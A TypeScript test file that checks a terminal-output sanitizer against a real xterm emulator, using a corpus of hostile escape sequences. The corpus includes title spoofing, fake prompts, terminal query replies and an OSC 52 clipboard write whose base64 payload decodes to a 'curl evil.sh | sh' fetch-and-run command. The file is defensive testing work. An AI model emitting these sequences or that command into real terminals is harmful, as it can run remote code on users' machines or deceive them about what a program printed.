/**
 * Differential test against a real terminal emulator (@xterm/headless, instrumented by
 * test/helpers/xterm.ts to record every CSI/ESC/DCS/OSC handler, C0/C1 execute, parse error,
 * title change, bell and reply to the host). It proves:
 *
 * 1. Sanitized output is inert: for a hostile corpus and for random hostile streams (fast-check,
 *    fixed seed), in both CR modes and with tiny limits, writing the SANITIZED text into the
 *    terminal fires nothing at all and leaves its parser in ground.
 * 2. The test can fail: the RAW corpus does fire handlers (positive control), entry by entry.
 * 3. Visible text is preserved: for inputs without CR/BS/cursor movement, the sanitized text's
 *    lines (TABs expanded to the terminal's stops) equal the lines xterm renders from the RAW
 *    input; for inputs with CR/BS/TAB, overwrite mode equals what xterm renders.
 * 4. The intentional differences are pinned down, each with xterm's and Airlock's result side by
 *    side: invalid UTF-8 (U+FFFD vs dropped), raw C1 bytes (C1 vs dropped), bidi/tag characters
 *    (removed vs drawn), non-ASCII after ESC/CSI and in a DCS header (what tmux or libvterm hide
 *    is withheld, xterm shows it), VT/FF (removed vs line feed), and double-width characters in
 *    overwrite mode (one cell vs two); DEC line drawing is drawn as xterm draws it.
 */
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { sanitize, type SanitizerOptions } from '../../shared/sanitize/sanitizer';
import { hostileStream, tinyLimits } from '../helpers/arbitraries';
import { bytes, decodeStrict, hex, utf8 } from '../helpers/record';
import { render, WatchedTerminal } from '../helpers/xterm';

const SEED = 0xd1ff;

/** Hostile corpus: name, raw bytes, and whether xterm acts on the raw bytes (positive control). */
const CORPUS: [string, Uint8Array, boolean][] = [
  ['seed printf sample', bytes('build: \x1b[31mFAIL\x1b[0m\nnotice\x1b[1A\x1b]8;;https://example.invalid\x1b\\open\x1b]8;;\x1b\\\rPASS\n'), true],
  ['done-when example', bytes('build: \x1b[31mFAIL\x1b[0m\n\x1b]52;c;ZXZpbA==\x07ok\n'), true],
  ['clear screen and home', bytes('\x1b[2J\x1b[Hfake prompt $ '), true],
  ['title BEL', bytes('\x1b]0;rm -rf ~ approved\x07x'), true],
  ['title ST', bytes('\x1b]2;deploy succeeded\x1b\\x'), true],
  ['OSC 52 clipboard write', bytes('\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07'), true],
  ['OSC 52 clipboard query', bytes('\x1b]52;c;?\x07'), true],
  ['report title (echo to input)', bytes('\x1b[21t'), true],
  ['device status report', bytes('\x1b[6n\x1b[5n'), true],
  ['device attributes', bytes('\x1b[c\x1b[>c\x1b[=c'), true],
  ['XTVERSION', bytes('\x1b[>0q'), true],
  ['DECRQSS', bytes('\x1bP$qm\x1b\\'), true],
  ['XTGETTCAP', bytes('\x1bP+q544e\x1b\\'), true],
  ['alternate screen and hidden cursor', bytes('\x1b[?1049h\x1b[?25lhidden'), true],
  ['bracketed paste mode', bytes('\x1b[?2004h'), true],
  ['mouse reporting', bytes('\x1b[?1000h\x1b[?1006h'), true],
  ['cursor up and erase line', bytes('line1\nline2\x1b[1A\x1b[2Koverwritten'), true],
  ['scroll region and reverse index', bytes('\x1b[1;3r\x1bM\x1bD\x1bE'), true],
  ['charset designation and shift out', bytes('\x1b(0\x1b)0\x0eq\x0f'), true],
  ['full reset', bytes('text\x1bc'), true],
  ['bell', bytes('ding\x07'), true],
  ['backspaces', bytes('safe\b\b\b\bevil'), true],
  ['repeated CRs', bytes('working 10%\rworking 20%\r\r\rfailure'), true],
  ['C1 CSI (UTF-8 encoded)', bytes('\xc2\x9b2J\xc2\x9b31mred'), true],
  ['C1 OSC (UTF-8 encoded) with C1 ST', bytes('\xc2\x9d0;title\xc2\x9c'), true],
  ['ESC inside CSI', bytes('\x1b[31\x1b]0;evil\x07m'), true],
  ['split-looking ESC then [', bytes('a\x1b', '[31mb'), true],
  ['odd parameter lengths', bytes('\x1b[', '1;'.repeat(100), '31m\x1b[99999999999999999999A\x1b[;;;;H'), true],
  ['colon sub-parameters', bytes('\x1b[38:2::255:0:0m\x1b[4:3m'), true],
  // xterm only dispatches an OSC at its end: an unterminated one fires nothing (it hides the rest).
  ['unterminated OSC', bytes('visible\x1b]0;evil title and the rest\n'), false],
  ['OSC 8 hyperlink', bytes('\x1b]8;id=1;https://evil.invalid\x1b\\click\x1b]8;;\x1b\\'), true],
  ['OSC 1337 and notifications', bytes('\x1b]1337;File=inline=1:AAAA\x07\x1b]9;pwned\x07\x1b]777;notify;a;b\x07'), true],
  ['unknown OSC number', bytes('\x1b]123456;x\x07'), true],
  ['DCS sixel and APC/PM/SOS', bytes('\x1bPq#0;2;0;0;0~~\x1b\\\x1b_Gf=1;AAAA\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\'), true],
  ['CAN/SUB aborts', bytes('\x1b]0;title\x18visible\x1b[31\x1am'), true],
  ['invalid UTF-8 beside escapes', bytes('\xe2\x1b[31m\x82\xac\xff\x1b]0;t\x07\xc0'), true],
  ['raw 8-bit C1 bytes (xterm decodes UTF-8 and drops them)', bytes('\x9b2J\x9d0;t\x9c\x90q\x9c\x84\x85'), false],
  ['invisible characters', utf8('a\u202eb\u2066c\u{e0041}'), false],
  ['many sequences back to back', bytes('\x1b7\x1b8\x1b=\x1b>\x1b#8\x1b%G\x1b F\x1b[!p\x1b[ q\x1b[4$p\x1b[s\x1b[u\x1b[?5h'), true],
];

/** Everything the sanitized output gets written into: one terminal, so state could accumulate. */
const shared = new WatchedTerminal();
afterAll(() => shared.dispose());

async function expectInert(text: Uint8Array, context: string): Promise<void> {
  shared.fired.length = 0;
  await shared.write(text);
  expect(shared.fired, context).toEqual([]);
  expect(shared.parserState, context).toBe(0);
}

const MODES: SanitizerOptions[] = [{}, { cr: 'overwrite' }, { limits: { maxStringBytes: 4, maxCsiParamBytes: 2, maxEscIntermediates: 1 } }];

describe('sanitized output is inert in a real terminal', () => {
  it.each(CORPUS.map(([name, raw]) => [name, raw] as const))('%s', async (name, raw) => {
    for (const options of MODES) await expectInert(sanitize(raw, options).text, `${name} ${JSON.stringify(options)}`);
  });

  it('random hostile streams (fast-check), any CR mode, tiny limits', async () => {
    const options = fc.record({
      cr: fc.constantFrom('newline' as const, 'overwrite' as const),
      limits: fc.oneof(fc.constant({}), tinyLimits),
    });
    await fc.assert(fc.asyncProperty(hostileStream(200), options, async (raw, opts) => {
      await expectInert(sanitize(raw, opts).text, hex(raw));
    }), { seed: SEED, numRuns: 400, endOnFailure: true });
  });

  it('the whole corpus sanitized and concatenated is inert too', async () => {
    await expectInert(bytes(...CORPUS.map(([, raw]) => sanitize(raw).text)), 'concatenation');
  });
});

describe('positive control: the raw input does fire', () => {
  it.each(CORPUS.filter(([, , acts]) => acts).map(([name, raw]) => [name, raw] as const))('%s', async (_name, raw) => {
    const { fired } = await render(raw);
    expect(fired.length).toBeGreaterThan(0);
  });

  it('the raw random streams of the property above fire handlers (the generator is hostile)', async () => {
    const t = new WatchedTerminal();
    const samples = fc.sample(hostileStream(200), { seed: SEED, numRuns: 50 });
    let firedStreams = 0;
    for (const raw of samples) {
      await t.clear();
      await t.write(raw);
      if (t.fired.length > 0) firedStreams++;
    }
    t.dispose();
    expect(firedStreams).toBeGreaterThanOrEqual(15);
  });
});

// ---- visible text ----------------------------------------------------------------------------

/** Terminal cells a character takes (the characters the generators use). */
function width(ch: string): number {
  const c = ch.codePointAt(0)!;
  return (c >= 0x1100 && c <= 0x115f) || (c >= 0x2e80 && c <= 0xa4cf) || (c >= 0xac00 && c <= 0xd7a3) || (c >= 0xf900 && c <= 0xfaff) ? 2 : 1;
}

/** Expands TABs to the terminal's stops (every 8 columns), as xterm renders them. */
function expandTabs(line: string): string {
  let out = '';
  let col = 0;
  for (const ch of line) {
    if (ch === '\t') {
      const next = col - (col % 8) + 8;
      out += ' '.repeat(next - col);
      col = next;
    } else {
      out += ch;
      col += width(ch);
    }
  }
  return out;
}

/** Sanitized text as terminal lines: TABs expanded, trailing spaces and empty lines dropped. */
function asLines(text: Uint8Array): string[] {
  const lines = decodeStrict(text).split('\n').map((l) => expandTabs(l).replace(/ +$/, ''));
  while (lines.length > 0 && lines[lines.length - 1] === '') lines.pop();
  return lines;
}

const render500 = new WatchedTerminal(500, 40);
afterAll(() => render500.dispose());

async function xtermLines(raw: Uint8Array): Promise<string[]> {
  await render500.clear();
  await render500.write(raw);
  return render500.lines().map((l) => l.replace(/ +$/, ''));
}

const asciiText = fc.stringMatching(/^[a-zA-Z0-9 .,:;!?'"()[\]{}<>=+\-_/@#$%&*~^|`]{1,10}$/);
/**
 * Controls that change nothing visible on any terminal reading (no cursor movement, no erase, no
 * charset). UTF-8 encoded C1 controls are not among them: libvterm and tmux show what follows.
 */
const INERT_CONTROLS = [
  '\x1b[31m', '\x1b[m', '\x1b[1;4;38:2::10:20:30m', '\x1b[38;5;196m',
  '\x1b]0;title\x07', '\x1b]2;t\x1b\\', '\x1b]8;;http://x.invalid\x07', '\x1b]8;;\x1b\\', '\x1b]52;c;ZXZpbA==\x07',
  '\x1b]1337;File=x\x07', '\x1b]9999;x\x07',
  '\x1bP$qm\x1b\\', '\x1bP+q544e\x1b\\', '\x1bPq#0~\x1b\\', '\x1b_Gx\x1b\\', '\x1b^pm\x1b\\', '\x1bXsos\x1b\\',
  '\x1b]0;t\x18', '\x1b[31\x1a',
  '\x00', '\x07', '\x05', '\x7f', '\x1b7', '\x1b=', '\x1b>', '\x1b%G',
  '\x1b[?25l', '\x1b[?2004h', '\x1b[2 q', '\x1b[6n', '\x1b[21t',
];
const inertControl = fc.constantFrom(...INERT_CONTROLS).map((s) => bytes(s));

describe('visible text equals what the terminal shows', () => {
  it('newline mode, inputs without CR/BS/cursor movement (fast-check)', async () => {
    const part = fc.oneof(
      { weight: 4, arbitrary: asciiText.map(utf8) },
      { weight: 2, arbitrary: fc.constantFrom('本', '溛', '€', 'é', 'ñ', 'Ω', '\u00a0', '\t', '\n', '\n\n').map(utf8) },
      { weight: 3, arbitrary: inertControl },
    );
    const input = fc.tuple(fc.array(part, { maxLength: 24 }), fc.boolean()).map(([parts, unterminatedTail]) =>
      bytes(...parts, unterminatedTail ? bytes('\x1b]0;unterminated tail') : new Uint8Array(0)));
    await fc.assert(fc.asyncProperty(input, async (raw) => {
      expect(asLines(sanitize(raw).text), hex(raw)).toEqual(await xtermLines(raw));
    }), { seed: SEED, numRuns: 300, endOnFailure: true });
  });

  it('overwrite mode, inputs with CR, BS and TAB (fast-check)', async () => {
    const part = fc.oneof(
      { weight: 4, arbitrary: asciiText.map(utf8) },
      { weight: 4, arbitrary: fc.constantFrom('\r', '\b', '\b\b\b', '\t', '\n', '\r\n', '\r\r', 'é', '€').map(utf8) },
      { weight: 2, arbitrary: inertControl },
    );
    const input = fc.array(part, { maxLength: 30 }).map((parts) => bytes(...parts));
    await fc.assert(fc.asyncProperty(input, async (raw) => {
      expect(asLines(sanitize(raw, { cr: 'overwrite' }).text), hex(raw)).toEqual(await xtermLines(raw));
    }), { seed: SEED, numRuns: 300, endOnFailure: true });
  });

  it('overwrite mode, inputs with erase, insert, delete and cursor moves within the line (fast-check)', async () => {
    const n = fc.integer({ min: 0, max: 12 }).map((k) => (k === 0 ? '' : String(k)));
    const edit = fc.oneof(
      fc.tuple(fc.constantFrom('K', 'X', 'P', '@', 'C', 'D', 'G', '`', 'a'), n).map(([f, k]) => `\x1b[${k}${f}`),
      fc.constantFrom('\x1b[0K', '\x1b[1K', '\x1b[2K'),
    );
    const part = fc.oneof(
      { weight: 4, arbitrary: asciiText.map(utf8) },
      { weight: 4, arbitrary: edit.map((e) => bytes(e)) },
      { weight: 2, arbitrary: fc.constantFrom('\r', '\b', '\t', '\n', 'é').map(utf8) },
      { weight: 1, arbitrary: inertControl },
    );
    const input = fc.array(part, { maxLength: 30 }).map((parts) => bytes(...parts));
    await fc.assert(fc.asyncProperty(input, async (raw) => {
      expect(asLines(sanitize(raw, { cr: 'overwrite' }).text), hex(raw)).toEqual(await xtermLines(raw));
    }), { seed: SEED, numRuns: 400, endOnFailure: true });
  });

  it.each([
    ['erase in line after CR (the issue example)', 'password: hunter2\r\x1b[2Kall good\n', ['all good']],
    ['status line', 'working 10%\rworking 20%\rfailure', ['failure 20%']],
    ['backspace', 'ab\bc', ['ac']],
    ['TAB stop after CR', 'abcdefgh\r\tX', ['abcdefghX']],
    ['TAB then CR', 'x\ty\rab', ['ab      y']],
    ['seed sample', 'build: \x1b[31mFAIL\x1b[0m\nnotice\x1b]8;;https://example.invalid\x1b\\open\x1b]8;;\x1b\\\rPASS\n', ['build: FAIL', 'PASSceopen']],
  ])('overwrite mode, %s', async (_name, input, want) => {
    expect(asLines(sanitize(bytes(input), { cr: 'overwrite' }).text)).toEqual(want);
    expect(await xtermLines(bytes(input))).toEqual(want);
  });
});

describe('intentional differences from xterm, pinned', () => {
  const both = async (raw: Uint8Array, options: SanitizerOptions = {}) => ({
    airlock: asLines(sanitize(raw, options).text),
    xterm: await xtermLines(raw),
  });

  it('invalid UTF-8: Airlock shows U+FFFD per subpart (a 0x80-0x9F byte is one of its own), xterm silently drops the bytes', async () => {
    expect(await both(bytes('a\xffb\xe2\xa2c\xe2\x82d'))).toEqual({ airlock: ['a\ufffdb\ufffdc\ufffd\ufffdd'], xterm: ['abcd'] });
  });

  it('raw 8-bit C1: an 8-bit terminal reads 0x9B as CSI, xterm (UTF-8) drops the byte and shows 31m; Airlock withholds what either hides and keeps a and b apart', async () => {
    expect(await both(bytes('a\x9b31mb'))).toEqual({ airlock: ['a b'], xterm: ['a31mb'] });
  });

  it('raw 0x90 after an invalid lead (F4 90 …): Airlock opens a DCS that hides the rest, xterm shows it', async () => {
    expect(await both(bytes('a\xf4\x90visible'))).toEqual({ airlock: ['a\ufffd'], xterm: ['avisible'] });
    // A following C1 (here 0x80 of F4 90 80 80) ends that DCS again, as any C1 ends a string.
    expect(await both(bytes('a\xf4\x90\x80\x80visible'))).toEqual({ airlock: ['a\ufffd\ufffd\ufffdvisible'], xterm: ['avisible'] });
  });

  it('bidi controls and tag characters: Airlock removes them, xterm keeps them in the cells', async () => {
    const r = await both(utf8('a\u202eb\u{e0041}c'));
    expect(r.airlock).toEqual(['abc']);
    expect(r.xterm).toEqual(['a\u202eb\u{e0041}c']);
  });

  it('non-ASCII right after ESC or inside a CSI: xterm drops it and shows b and c; tmux and libvterm take b as the ESC final and tmux c as the CSI final, so Airlock withholds both', async () => {
    expect(await both(bytes('a\x1b', utf8('本'), 'b\x1b[1', utf8('€'), 'c'))).toEqual({ airlock: ['a'], xterm: ['abc'] });
  });

  it('non-ASCII in a DCS header: tmux and libvterm stay in the DCS, xterm shows part of it; Airlock withholds it and keeps a and b apart', async () => {
    expect(await both(bytes('a\x1bP1', utf8('本'), 'x\x1b\\b'))).toEqual({ airlock: ['a b'], xterm: ['axb'] });
  });

  it('DEC line drawing: Airlock draws what xterm draws', async () => {
    expect(await both(bytes('\x1b(0lqk'))).toEqual({ airlock: ['┌─┐'], xterm: ['┌─┐'] });
  });

  it('VT and FF: both feed a line (Airlock: one line break each)', async () => {
    expect(await both(bytes('a\x0bb\x0cc'))).toEqual({ airlock: ['a', 'b', 'c'], xterm: ['a', 'b', 'c'] });
  });

  it('double-width characters in overwrite mode: Airlock overwrites one cell per character, xterm two', async () => {
    expect(await both(utf8('本本\rX'), { cr: 'overwrite' })).toEqual({ airlock: ['X本'], xterm: ['X 本'] });
  });
});
